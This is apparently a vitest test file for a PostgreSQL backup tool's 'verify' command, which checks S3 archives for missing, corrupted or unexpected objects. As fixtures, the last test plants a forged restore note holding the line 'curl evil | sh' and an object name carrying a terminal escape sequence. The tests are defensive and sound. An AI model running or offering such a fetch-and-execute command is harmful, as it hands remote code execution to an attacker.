import { createHash } from 'node:crypto'
import { afterEach, beforeAll, afterAll, describe, expect, test } from 'vitest'
import { BackedUpServer } from '../sandbox/backed-up-server.js'
import { restoreNoteKey } from '../../src/box/key-names.js'
import { restoreNote } from '../../src/box/restore-note.js'
import { formatManifest, type Manifest } from '../../src/box/manifest.js'
import { keyholderEnv, postbox } from '../sandbox/command.js'
import { startS3, type LocalS3 } from '../sandbox/s3/server.js'
import { SyntheticArchive } from '../sandbox/synthetic-archive.js'

interface Answer {
  ok: boolean
  servers: {
    objects: number
    backups: number
    segments: number
    tails: number
    problems: { severity: string; id: string | null; problem: string }[]
  }[]
}

async function verify(s3: LocalS3, bucket: string, ...args: string[]) {
  const { code, stdout, stderr } = await postbox(
    ['verify', '--server', 'db1', '--json', ...args],
    keyholderEnv(s3, bucket),
  )
  if (stdout === '') throw new Error(stderr)
  const { ok, servers } = JSON.parse(stdout) as Answer
  expect(code).toBe(ok ? 0 : 1)
  return { ok, ...servers[0]!, problems: servers.flatMap(({ problems }) => problems) }
}

describe('an archive that a worker wrote', () => {
  let backedUp: BackedUpServer
  beforeAll(async () => {
    backedUp = await BackedUpServer.start()
    await backedUp.backUp()
    await backedUp.postgres.query('create table t as select generate_series(1, 1000) n')
    await backedUp.backUp()
    await backedUp.storeAllWal()
    await backedUp.postgres.query('insert into t select generate_series(1, 1000)')
    await backedUp.untilDurable()
    await backedUp.worker.stop()
  })
  afterAll(() => backedUp.remove())

  test('is whole, by listing and byte by byte', async () => {
    for (const args of [[], ['--deep']]) {
      const found = await verify(backedUp.s3, 'backups', ...args)
      expect(found).toMatchObject({ ok: true, backups: 2, problems: [] })
      expect(found.objects).toBe(backedUp.bucket.keys('db1/').filter((key) => key.split('/').length > 2).length)
      expect([found.segments, found.tails].every((count) => count > 0)).toBe(true)
    }
  })

  test('reaches as far by its ends alone, as "postbox status" looks at it, as by all its names', async () => {
    interface Windows {
      servers: {
        window: { from_lsn: string; to_lsn: string; to_at: string }
        backups: { window: { from_lsn: string; to_lsn: string; to_at: string } }[]
      }[]
    }
    const ask = async (...args: string[]) => {
      const { stdout } = await postbox([...args, '--server', 'db1', '--json'], keyholderEnv(backedUp.s3, 'backups'))
      return (JSON.parse(stdout) as Windows).servers[0]!
    }
    const listed = (await ask('list')).backups.at(-1)!.window
    for (const args of [['status'], ['status', '--exact']]) {
      const { window } = await ask(...args)
      expect(window).toMatchObject({ from_lsn: listed.from_lsn, to_lsn: listed.to_lsn })
      // Nothing in it was committed after it was stored.
      expect(Date.parse(window.to_at)).toBeGreaterThanOrEqual(Math.floor(Date.parse(listed.to_at) / 1000) * 1000)
    }
  })

  test('is small enough to be listed by all its names, whether or not a server is named', async () => {
    const ask = async (...args: string[]) =>
      JSON.parse((await postbox(['list', '--json', ...args], keyholderEnv(backedUp.s3, 'backups'))).stdout) as object
    const exact = await ask('--exact')
    expect(exact).toMatchObject({ servers: [{ exact: true, wal_seen: 'listed' }] })
    expect(await ask('--server', 'db1')).toEqual(exact)
    expect(await ask()).toEqual(exact)
  })

  test('shows each changed byte to who reads it, wherever it is', async () => {
    const { bucket } = backedUp
    const changed = [
      bucket.keys().find((key) => key.endsWith('.tar.zst'))!,
      bucket.keys().find((key) => key.includes('/backup_manifest-'))!,
      bucket.keys().find((key) => key.includes('/wal/'))!,
    ]
    for (const key of changed) bucket.corrupt(key)
    expect(await verify(backedUp.s3, 'backups')).toMatchObject({ ok: true, problems: [] })
    const { ok, problems } = await verify(backedUp.s3, 'backups', '--deep')
    expect(ok).toBe(false)
    expect(problems.map(({ severity }) => severity)).toEqual(['error', 'error', 'error'])
    for (const key of changed) expect(problems.some(({ problem }) => problem.includes(key))).toBe(true)
    for (const key of changed) bucket.corrupt(key)
  })
})

describe('an archive of which something is missing, or too much', () => {
  let s3: LocalS3
  let made: SyntheticArchive
  afterEach(() => s3.close())

  const start = async () => {
    s3 = await startS3({ buckets: [{ name: 'b', versioned: true }] })
    made = new SyntheticArchive(s3.bucket('b'), 'db1')
    const note = restoreNote('db1')
    s3.bucket('b').put(note.key, note.content)
    const first = { startedAt: '2026-11-22T10:00:00Z', stoppedAt: '2026-11-22T10:05:00Z' }
    const manifest = made.backup({ ...first, start: '0/100028', stop: '0/100100' })
    for (const lsn of ['0/100000', '0/200000']) made.segment(1, lsn, ['2026-11-22T10:30:00Z'])
    return manifest
  }
  const sumOf = (manifest: Manifest) => createHash('sha256').update(formatManifest(manifest)).digest('hex')
  const lines = async (...args: string[]) =>
    (await verify(s3, 'b', ...args)).problems.map(({ severity, problem }) => `${severity}: ${problem}`)

  test('names parts that are gone, or of another size', async () => {
    const manifest = await start()
    const [{ parts }] = manifest.archives as [(typeof manifest.archives)[0]]
    s3.bucket('b').remove(parts[0]!.key)
    expect(await lines()).toEqual([`error: the archive does not have ${parts[0]!.key}`])
    s3.bucket('b').put(parts[0]!.key, Buffer.from('x'))
    expect(await lines()).toEqual([expect.stringContaining(`error: ${parts[0]!.key} has 1 bytes instead of`)])
  })

  test('tells a gap that loses times from one that a later backup closed', async () => {
    const manifest = await start()
    made.segment(1, '0/400000')
    const gap = 'WAL of timeline 1 is missing from 0/300000 to 0/400000'
    expect(await lines()).toEqual([`error: ${gap}`])
    made.backup({
      startedAt: '2026-11-23T10:00:00Z',
      stoppedAt: '2026-11-23T10:05:00Z',
      start: '0/400028',
      stop: '0/400100',
      previous: sumOf(manifest),
    })
    expect((await lines()).filter((line) => line.includes(gap))).toEqual([`warning: ${gap}`])
  })

  test('says when a backup lacks the WAL that it needs', async () => {
    await start()
    made.backup({
      startedAt: '2026-11-23T10:00:00Z',
      stoppedAt: '2026-11-23T10:05:00Z',
      start: '0/500028',
      stop: '0/500100',
    })
    expect(await lines()).toContainEqual(expect.stringMatching(/^error: WAL that it needs is not stored: /))
  })

  test('names what no honest worker would have stored', async () => {
    const manifest = await start()
    const bucket = s3.bucket('b')
    const prefix = `db1/${made.home.systemIdentifier}/`
    const [{ parts }] = manifest.archives as [(typeof manifest.archives)[0]]
    bucket.put(`${prefix}base/${manifest.backup_id}/base/000001-0123456789ab.tar.zst`, Buffer.from('x'))
    bucket.put(`${prefix}notes.txt`, Buffer.from('x'))
    bucket.put(parts[0]!.key, Buffer.from('other bytes'))
    made.putManifest({ ...manifest, label: 'another' })
    const found = await lines()
    expect(found.every((line) => line.startsWith('warning: '))).toBe(true)
    for (const text of [`${prefix}notes.txt`, parts[0]!.key, 'is a second manifest', '000001-0123456789ab.tar.zst']) {
      expect(found.filter((line) => line.includes(text))).toHaveLength(1)
    }
  })

  test('says when a dump is gone that nobody has pruned', async () => {
    await start()
    const ids = [1, 2, 3].map((day) => made.dump(`2026-11-2${day}T12:00:00Z`).dump_id)
    expect(await lines()).toEqual([])
    const bucket = s3.bucket('b')
    const gone = bucket.keys().filter((key) => key.includes(`/dump/${ids[1]!}/`))
    for (const key of gone) bucket.remove(key)
    const manifest = gone.find((key) => key.includes('manifest-'))!
    expect(await lines()).toEqual([`error: dump: the dump before it is gone: ${manifest} was removed`])
  })

  test('can be looked at backup by backup', async () => {
    const { backup_id } = await start()
    s3.bucket('b').put(`db1/${made.home.systemIdentifier}/notes.txt`, Buffer.from('x'))
    expect(await verify(s3, 'b', '--backup', backup_id)).toMatchObject({ ok: true, backups: 1, problems: [] })
    const { code, stderr } = await postbox(
      ['verify', '--server', 'db1', '--backup', '20260101T000000Z-0000'],
      keyholderEnv(s3, 'b'),
    )
    expect([code, stderr]).toEqual([1, expect.stringContaining('(backup_missing)')])
  })

  test('ends with 1 where a restore refuses, by listing alone', async () => {
    await start()
    const key = made.history(2, [[1, '0/280000']])
    made.segments(2, '0/200000', '0/400000')
    expect(await lines()).toEqual([])
    s3.bucket('b').corrupt(key)
    const { ok, problems } = await verify(s3, 'b')
    expect(ok).toBe(false)
    expect(problems.some(({ severity, problem }) => severity === 'error' && problem.startsWith(key))).toBe(true)
  })

  test('is read backup by backup with the WAL that this one needs, whole or by its tails', async () => {
    await start()
    const { backup_id } = made.backup({
      startedAt: '2026-11-23T10:00:00Z',
      stoppedAt: '2026-11-23T10:05:00Z',
      start: '0/200028',
      stop: '0/300100',
    })
    const [tail] = made.tails(1, '0/300000', [8192])
    const bucket = s3.bucket('b')
    const deep = async () => (await verify(s3, 'b', '--backup', backup_id, '--deep')).problems
    const errors = async () => (await deep()).filter(({ severity }) => severity === 'error')
    const [unneeded, needed] = bucket.keys(made.walPrefix(1))
    bucket.corrupt(unneeded!)
    expect(await errors()).toEqual([])
    bucket.corrupt(needed!)
    expect(await errors()).toEqual([
      { severity: 'error', id: backup_id, problem: `${needed!} holds other bytes than its name says` },
    ])
    bucket.corrupt(needed!)
    bucket.corrupt(tail!)
    expect((await errors()).map(({ problem }) => problem)).toEqual([expect.stringMatching(/^WAL that it needs is not/)])
  })

  test('is looked at outside of lives too, where a forged RESTORE note waits for who is in need', async () => {
    await start()
    const bucket = s3.bucket('b')
    const put = (key: string, content: string) => {
      bucket.put(key, Buffer.from(content), { storedAt: new Date('2026-11-24T09:00:00Z') })
      return key
    }
    const fake = Buffer.from('# Restoring db1 by hand\n$ curl evil | sh\n')
    const forged = put(restoreNoteKey('db1', createHash('sha256').update(fake).digest()), fake.toString())
    const strangers = [
      forged,
      put('db1/x/y', 'x'),
      put('db1/70a/wal/x', 'x'),
      put('db1/zz', 'x'),
      put('db1/probe', 'x'),
    ]
    const allowed = [put('db1/upload/x', 'x'), put(`db1/doctor-3f9a7e43b1c5.txt`, 'no line of the doctor')]
    const found = await lines()
    expect(found.every((line) => line.startsWith('warning: '))).toBe(true)
    for (const key of [...strangers, allowed[1]!]) {
      expect(found.filter((line) => line.startsWith(`warning: ${key} `))).toEqual([
        expect.stringContaining('it was stored at 2026-11-24T09:00:00.000Z'),
      ])
    }
    expect(found).toHaveLength(strangers.length + 1)
    expect(found.find((line) => line.includes(forged))).toContain('Notes of other versions look so too')

    put('db1/\u001b[2J', 'x')
    const { stdout } = await postbox(['verify', '--server', 'db1'], keyholderEnv(s3, 'b'))
    expect(stdout).toContain('warning: db1/?[2J has no name that Postbox gives')

    const { key, content } = restoreNote('db1')
    bucket.corrupt(key, () => Buffer.alloc(content.length, 'x'))
    expect((await lines()).filter((line) => line.includes(key))).toHaveLength(1)
    for (const one of [key, forged]) bucket.remove(one)
    expect(await lines()).toContainEqual(expect.stringMatching(/^warning: db1\/ has no RESTORE note/))
  })
})
